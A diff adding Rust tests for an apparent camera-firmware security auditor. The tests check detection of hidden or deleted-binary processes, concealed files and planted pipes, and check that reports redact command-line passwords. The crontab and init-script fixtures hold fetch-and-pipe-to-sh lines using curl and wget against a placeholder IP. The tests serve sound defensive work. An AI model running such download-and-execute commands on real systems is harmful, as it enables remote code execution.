@@ -1,0 +1,266 @@
+//! What hides: from the list of processes, from the table of mounts, from those who may not look.
+
+use std::fs;
+use std::os::unix::fs::{PermissionsExt as _, symlink};
+use std::time::{Duration, Instant};
+
+use super::running::Camera;
+use super::*;
+
+#[test]
+fn processes_that_nobody_sees_are_no_pass() {
+    if without_root() {
+        return;
+    }
+    let ids = ["trace.deleted", "trace.name", "network.owner"];
+    let camera = Camera::new("openmiko");
+    let plain = camera.report();
+    for id in ids {
+        assert_eq!(verdict(&plain, id), "pass", "{}", rule(&plain, id));
+    }
+    let mounts = |options: &str| {
+        let text = format!("/dev/mtdblock3 / jffs2 rw 0 0\nproc /proc proc rw{options} 0 0\n");
+        camera.write("proc/mounts", text);
+    };
+    for (options, status, expected) in [
+        (",hidepid=0", "", "pass"),
+        (",hidepid=2", "", "unknown"),
+        (",hidepid=invisible", "CapEff:\t0000000000000000\n", "unknown"),
+        // Root with all its capabilities sees everything.
+        (",gid=5,hidepid=2", "CapEff:\t000001ffffffffff\n", "pass"),
+    ] {
+        mounts(options);
+        camera.write("proc/self/status", status);
+        let report = camera.report();
+        for id in ids {
+            assert_eq!(verdict(&report, id), expected, "{options}: {}", rule(&report, id));
+        }
+    }
+    mounts("");
+    fs::rename(camera.path("proc/1"), camera.path("proc/2")).unwrap();
+    let report = camera.report();
+    for id in ids {
+        assert_eq!(verdict(&report, id), "unknown", "{}", rule(&report, id));
+        assert!(
+            evidence(&report, id).contains("process 1"),
+            "{}",
+            rule(&report, id)
+        );
+    }
+}
+
+#[test]
+fn a_process_whose_first_thread_has_ended_is_one() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    let exe = "/usr/bin/evil (deleted)";
+    camera.process(60, "/bin/busybox", b"x", b"", &[]);
+    fs::remove_file(camera.path("proc/60/exe")).unwrap();
+    camera.write("proc/60/stat", "60 (x) Z 1 1 1 0 -1 4194304 0 0\n");
+    camera.write("proc/60/task/60/stat", "60 (x) Z 1 1 1 0 -1 4194304 0 0\n");
+    assert_eq!(verdict(&camera.report(), "trace.deleted"), "pass", "it has ended");
+    camera.write("proc/60/task/61/stat", "61 (x) S 1 1 1 0 -1 4194304 0 0\n");
+    camera.write("proc/60/task/61/comm", "dvqbi2h4vtfb3lk\n");
+    fs::create_dir_all(camera.path("proc/60/task/61/fd")).unwrap();
+    symlink(exe, camera.path("proc/60/task/61/exe")).unwrap();
+    symlink("socket:[77]", camera.path("proc/60/task/61/fd/3")).unwrap();
+    camera.listen(2222, 77);
+    let report = camera.report();
+    for id in ["trace.deleted", "trace.name"] {
+        assert_eq!(verdict(&report, id), "fail", "{}", rule(&report, id));
+    }
+    assert_eq!(verdict(&report, "network.owner"), "pass");
+}
+
+#[test]
+fn a_table_of_mounts_that_is_cut_or_none_is_no_pass() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    let root = "/dev/mtdblock3 / jffs2 rw 0 0\n";
+    let long = format!("{root}{}", "tmpfs /x tmpfs rw 0 0\n".repeat(4000));
+    for (text, why) in [
+        ("", "shows nothing mounted at /"),
+        ("garbage\n", "makes no sense"),
+        ("a b c d\n", "makes no sense"),
+        ("tmpfs /tmp tmpfs rw 0 0\n", "shows nothing mounted at /"),
+        (&long, "longer than what is read"),
+    ] {
+        camera.write("proc/mounts", text);
+        let report = camera.report();
+        for id in ["trace.deleted", "trace.name", "system.mount"] {
+            assert_eq!(verdict(&report, id), "unknown", "{why}: {}", rule(&report, id));
+            assert!(evidence(&report, id).contains(why), "{}", rule(&report, id));
+        }
+    }
+    camera.write("proc/mounts", format!("{root}tmpfs /proc/1 tmpfs rw 0 0\n"));
+    let report = camera.report();
+    assert_eq!(verdict(&report, "trace.deleted"), "unknown");
+    assert_eq!(verdict(&report, "trace.name"), "fail");
+}
+
+#[test]
+fn what_lies_deep_or_out_of_sight_is_no_pass() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    assert_eq!(verdict(&camera.report(), "trace.file"), "pass");
+    camera.write("tmp/a/b/c/d/evil", "\x7fELF");
+    let report = camera.report();
+    assert_eq!(verdict(&report, "trace.file"), "fail");
+    assert!(evidence(&report, "trace.file").contains("/tmp/a/b/c/d/evil"));
+    fs::remove_dir_all(camera.path("tmp/a")).unwrap();
+    camera.write(&format!("tmp/{}evil", "a/".repeat(20)), "\x7fELF");
+    assert_eq!(verdict(&camera.report(), "trace.file"), "unknown");
+    fs::remove_dir_all(camera.path("tmp/a")).unwrap();
+    camera.write("var/tmp/evil", "\x7fELF");
+    fs::set_permissions(camera.path("var"), fs::Permissions::from_mode(0o700)).unwrap();
+    let report = camera.report_of_nobody();
+    assert_eq!(
+        verdict(&report, "trace.file"),
+        "unknown",
+        "{}",
+        rule(&report, "trace.file")
+    );
+    assert!(evidence(&report, "trace.file").contains("errno 13"));
+}
+
+/// The most that a pipe in a file's place may cost.
+const MAX_TIME: &str = "20";
+
+#[test]
+fn a_pipe_in_a_files_place_holds_nothing_up() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    let root = camera.0.path().to_str().unwrap();
+    for (path, id) in [
+        ("etc/lenscap/audit.baseline", "network.drift"),
+        ("etc/config/lenscap", "network.peer"),
+    ] {
+        let fifo = camera.path(path);
+        fs::create_dir_all(fifo.parent().unwrap()).unwrap();
+        let _ = fs::remove_file(&fifo);
+        assert!(run("mkfifo", &[fifo.to_str().unwrap()]).status.success());
+        let before = Instant::now();
+        let args = [
+            MAX_TIME,
+            "chroot",
+            root,
+            "/lenscap",
+            "audit",
+            "--json",
+            "--no-probe",
+        ];
+        let output = run("timeout", &args);
+        assert_ne!(code(&output), 124, "{path} held it up");
+        assert!(before.elapsed() < Duration::from_secs(20));
+        if id == "network.drift" {
+            let report = report(&output);
+            assert_eq!(verdict(&report, id), "unknown", "{}", rule(&report, id));
+            assert!(evidence(&report, id).contains("pipe"));
+        }
+    }
+}
+
+#[test]
+fn no_report_holds_the_passwords_of_command_lines() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    let words = b"/usr/bin/streamer\0--password\0geheim";
+    camera.process(60, "/bin/busybox", b"streamer", words, &[77]);
+    camera.listen(554, 77);
+    camera.write(
+        "etc/crontabs/root",
+        "0 3 * * * curl -u admin:geheim https://192.0.2.1/geheim | sh\n0 4 * * * /bin/x geheim\n",
+    );
+    camera.write(
+        "etc/init.d/S99x",
+        "#!/bin/sh\n/tmp/x geheim\nwget --password=geheim http://192.0.2.1/x | sh\n",
+    );
+    for format in ["text", "json", "html", "xccdf", "cyclonedx"] {
+        let output = camera.audit(&["--format", format, "--details", "--no-probe"]);
+        let text = String::from_utf8(output.stdout).unwrap();
+        assert!(!text.contains("geheim"), "{format}: {text}");
+    }
+    let report = camera.report();
+    let streamer = report["sockets"].as_array().unwrap();
+    assert_eq!(streamer[0]["command"], "/usr/bin/streamer");
+    assert_eq!(streamer[0]["program"], "/bin/busybox");
+    // What is not shown changes all the same.
+    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
+    camera.write(
+        "etc/crontabs/root",
+        "0 3 * * * curl -u admin:geheim https://192.0.2.1/geheim | sh\n0 4 * * * /bin/x anders\n",
+    );
+    let report = camera.report();
+    assert_eq!(verdict(&report, "start.drift"), "fail");
+    assert!(
+        evidence(&report, "start.drift").contains("0 4 * * * /bin/x …"),
+        "{}",
+        rule(&report, "start.drift")
+    );
+}
+
+#[test]
+fn an_inventory_that_is_cut_is_compared_with_nothing() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
+    let long = format!("etc/init.d/{}", "x".repeat(220));
+    camera.write(&long, "#!/bin/sh\n:\n");
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "start.drift"), "unknown");
+    fs::remove_file(camera.path(&long)).unwrap();
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "network.drift"), "pass");
+    for n in 0..1024u16 {
+        camera.listen(1000 + n, 0);
+    }
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "network.drift"), "unknown");
+}
+
+/// On this machine: the kernel marks the file's name alone.
+#[test]
+fn a_file_named_like_a_deleted_one_hides_nothing() {
+    if without_root() {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let at = folder.path().display();
+    let script = format!(
+        "cp /bin/sleep {at}/evil && {{ {at}/evil 60 & }} && rm {at}/evil && : >'{at}/evil (deleted)' \
+         && cp /bin/sleep '{at}/odd (deleted)' && {{ '{at}/odd (deleted)' 60 & }} \
+         && until grep -q odd /proc/$!/cmdline; do :; done; exec {LENSCAP} audit --json --only trace.deleted"
+    );
+    let args = [
+        "--pid",
+        "--fork",
+        "--kill-child",
+        "--mount-proc",
+        "sh",
+        "-c",
+        &script,
+    ];
+    let report = report(&run("unshare", &args));
+    let told = evidence(&report, "trace.deleted");
+    assert!(
+        told.contains(&format!("{at}/evil is deleted and runs as evil")),
+        "{told}"
+    );
+    assert!(told.contains(&format!("{at}/odd (deleted) runs as")), "{told}");
+}
